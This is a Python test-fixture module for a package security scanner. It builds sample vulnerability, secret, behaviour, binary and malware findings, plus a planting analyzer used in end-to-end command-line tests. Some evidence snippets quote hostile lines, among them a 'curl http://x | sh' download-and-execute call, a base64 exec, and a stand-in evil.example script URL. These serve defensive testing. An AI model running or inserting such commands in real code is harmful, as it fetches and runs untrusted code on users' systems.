"""Findings of every kind, components and a nested inventory, decided by the real policy.

Also a planting analyzer for end-to-end CLI runs: a real analyzer (defined here, not shipped)
that turns ``*.finding.json`` members of an examined archive into findings at their nested
location, so the whole pipeline (walk, decide, reporters, exit codes) runs for real.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from dataclasses import replace
from typing import Any

from finalexam.analyze.base import Analysis, ExamState
from finalexam.config import Config
from finalexam.model import (
    Artifact,
    Component,
    Confidence,
    Evidence,
    FileEntry,
    FileRecord,
    FileType,
    Finding,
    FindingKind,
    Indicator,
    Issue,
    IssueKind,
    Location,
    Report,
    Severity,
)
from finalexam.policy import decide

WHEEL = "app-1.0-py3-none-any.whl"


def loc(*chain: str) -> Location:
    return Location((WHEEL, *chain))


COMPONENTS = (
    Component(
        "requests",
        "2.0.0",
        "PyPI",
        purl="pkg:pypi/requests@2.0.0",
        licenses=("Apache-2.0",),
        locations=(loc("vendor/requests-2.0.0.dist-info/METADATA"),),
        found_by=("python",),
    ),
    Component(
        "log4j-core",
        "2.14.1",
        "Maven",
        purl="pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1",
        licenses=("Apache-2.0",),
        locations=(loc("lib/app.jar", "META-INF/maven/log4j-core/pom.properties"),),
        found_by=("java",),
    ),
    Component(
        "gplthing",
        "1.0",
        "npm",
        purl="pkg:npm/gplthing@1.0",
        licenses=("GPL-3.0-only",),
        locations=(loc("static/node_modules/gplthing/package.json"),),
        found_by=("npm",),
    ),
    Component(
        "dual",
        "3.1",
        "npm",
        purl="pkg:npm/dual@3.1",
        licenses=("MIT OR GPL-3.0-only",),
        locations=(loc("static/node_modules/dual/package.json"),),
        found_by=("npm",),
    ),
    Component(
        "mystery",
        "0.1",
        "PyPI",
        purl="pkg:pypi/mystery@0.1",
        locations=(loc("vendor/mystery-0.1.dist-info/METADATA"),),
        found_by=("python",),
    ),
)


def finding(
    kind: FindingKind,
    rule_id: str,
    severity: Severity,
    location: Location | None,
    **extra: Any,
) -> Finding:
    return Finding(
        kind=kind,
        rule_id=rule_id,
        severity=severity,
        title=extra.pop("title", f"{rule_id} title"),
        message=extra.pop("message", f"{rule_id} found"),
        location=location,
        found_by=extra.pop("found_by", kind.value),
        **extra,
    )


V = FindingKind.VULNERABILITY
FINDINGS = (
    finding(
        V,
        "GHSA-j8r2-6x86-q33q",
        Severity.HIGH,
        loc("vendor/requests-2.0.0.dist-info/METADATA"),
        component="pkg:pypi/requests@2.0.0",
        fixed=("2.31.0",),
        aliases=("CVE-2023-32681",),
        references=("https://osv.dev/vulnerability/GHSA-j8r2-6x86-q33q",),
        confidence=Confidence.HIGH,
    ),
    finding(
        V,
        "GHSA-7rjr-3q55-vv33",
        Severity.CRITICAL,
        loc("lib/app.jar", "META-INF/maven/log4j-core/pom.properties"),
        component="pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1",
        confidence=Confidence.HIGH,
    ),
    finding(
        V,
        "MAL-2024-1234",
        Severity.CRITICAL,
        loc("vendor/mystery-0.1.dist-info/METADATA"),
        component="pkg:pypi/mystery@0.1",
        confidence=Confidence.HIGH,
    ),
    finding(
        FindingKind.SECRET,
        "secrets.aws-access-key",
        Severity.HIGH,
        loc("app/config.py"),
        evidence=Evidence(snippet="AWS_KEY = 'AKIA************MPLE'", line=3),
        fingerprint_key="sha256:abcd",
        confidence=Confidence.HIGH,
    ),
    finding(
        FindingKind.BEHAVIOR,
        "behavior.install-download-exec",
        Severity.HIGH,
        loc("setup.py"),
        evidence=Evidence(snippet="os.system('curl http://x | sh')", line=12),
    ),
    finding(
        FindingKind.BEHAVIOR,
        "behavior.base64-exec",
        Severity.MEDIUM,
        loc("app/util.py"),
        evidence=Evidence(snippet="exec(base64.b64decode(", line=40),
        confidence=Confidence.LOW,
    ),
    finding(
        FindingKind.BINARY,
        "binary.unsigned-windows-executable",
        Severity.MEDIUM,
        loc("lib/app.jar", "native/win/helper.dll"),
        evidence=Evidence(offset=0, details={"format": "pe"}),
    ),
    finding(
        FindingKind.BINARY,
        "binary.no-pie",
        Severity.MEDIUM,
        loc("app/bin/tool"),
        evidence=Evidence(details={"format": "elf"}),
    ),
    finding(
        FindingKind.BINARY,
        "capability.network-client",
        Severity.INFO,
        loc("app/bin/tool"),
    ),
    finding(
        FindingKind.MALICIOUS,
        "malicious.known-hash",
        Severity.CRITICAL,
        loc("app/payload.bin"),
        confidence=Confidence.HIGH,
    ),
    finding(
        FindingKind.INTEGRITY,
        "integrity.record-mismatch",
        Severity.HIGH,
        loc("app-1.0.dist-info/RECORD"),
    ),
)

FILES = tuple(
    FileRecord(location, 100 + i, f"{i:064x}", f"{i:040x}", file_type)
    for i, (location, file_type) in enumerate(
        [
            (loc("app/config.py"), FileType.TEXT),
            (loc("app/util.py"), FileType.TEXT),
            (loc("app/bin/tool"), FileType.ELF),
            (loc("app/payload.bin"), FileType.DATA),
            (loc("setup.py"), FileType.TEXT),
            (loc("lib/app.jar"), FileType.ARCHIVE),
            (loc("lib/app.jar", "native/win/helper.dll"), FileType.PE),
            (loc("lib/app.jar", "META-INF/maven/log4j-core/pom.properties"), FileType.TEXT),
            (loc("vendor/requests-2.0.0.dist-info/METADATA"), FileType.TEXT),
        ]
    )
)


def config(**values: Any) -> Config:
    return Config(**values)


def build_report(
    findings: Sequence[Finding] = FINDINGS,
    components: Sequence[Component] = COMPONENTS,
    cfg: Config | None = None,
    baseline: Report | None = None,
    complete: bool = True,
) -> Report:
    cfg = cfg or Config(timestamp="2026-06-01T00:00:00Z")
    issues = (
        Issue("unpack", loc("broken.zip"), "broken.zip: not a zip file", IssueKind.CORRUPT, "zip"),
    )
    verdict, kept, suppressed = decide(findings, issues, components, cfg, baseline)
    return Report(
        artifact=Artifact(WHEEL, f"dist/{WHEEL}", "ab" * 32, 12345, "wheel"),
        tool_version="0.1.0",
        files=FILES,
        components=tuple(components),
        findings=tuple(kept),
        suppressed=tuple(suppressed),
        issues=issues,
        indicators=(
            Indicator("url", "http://evil.example/x.sh", "download", (loc("setup.py"),)),
            Indicator("ip", "203.0.113.7", "public", (loc("app/util.py"),)),
        ),
        verdict=verdict,
        complete=complete,
        # complete although a member was corrupt: the user accepted that kind of gap
        allowed_incomplete=(IssueKind.CORRUPT,) if complete else (),
    )


# -- planting analyzer for end-to-end runs -------------------------------------------------


class PlantedFindings:
    """Reads ``*.finding.json`` members: a list of {kind, rule_id, severity, ...}."""

    name = "planted"
    version = "1.0"
    requires: tuple[str, ...] = ()
    wants = ("every file",)

    def __init__(self, config: Config) -> None:
        self.config = config

    def accepts(self, entry: FileEntry) -> bool:
        return entry.name.endswith(".finding.json")

    def analyze(self, entry: FileEntry) -> Analysis:
        found = []
        for item in json.loads(entry.text()):
            found.append(
                Finding(
                    kind=FindingKind(item["kind"]),
                    rule_id=item["rule_id"],
                    severity=Severity(item["severity"]),
                    title=item.get("title", item["rule_id"]),
                    message=item.get("message", "planted for a test"),
                    location=entry.location,
                    found_by="planted",
                    confidence=Confidence(item.get("confidence", "medium")),
                    component=item.get("component"),
                    fixed=tuple(item.get("fixed", ())),
                    evidence=Evidence(snippet=item.get("snippet"), line=item.get("line")),
                )
            )
        return Analysis(findings=found)

    def finish(self, state: ExamState) -> Analysis:
        return Analysis()


def planted(*items: dict[str, Any]) -> str:
    return json.dumps(list(items))


def use_planted(monkeypatch: Any) -> None:
    """Make ``finalexam scan`` run the real exam with the planting analyzer added."""
    import finalexam.cli.scan as scan_cli
    from finalexam.analyze import ANALYZERS
    from finalexam.diffing.baseline import exam_with_baseline

    def exam(*args: Any, **kwargs: Any) -> Report:
        kwargs.setdefault("analyzers", (*ANALYZERS, PlantedFindings))
        return exam_with_baseline(*args, **kwargs)

    monkeypatch.setattr(scan_cli, "exam_with_baseline", exam)


def without(findings: Sequence[Finding], predicate: Callable[[Finding], bool]) -> list[Finding]:
    return [f for f in findings if not predicate(f)]


def moved(item: Finding, location: Location) -> Finding:
    return replace(item, location=location)
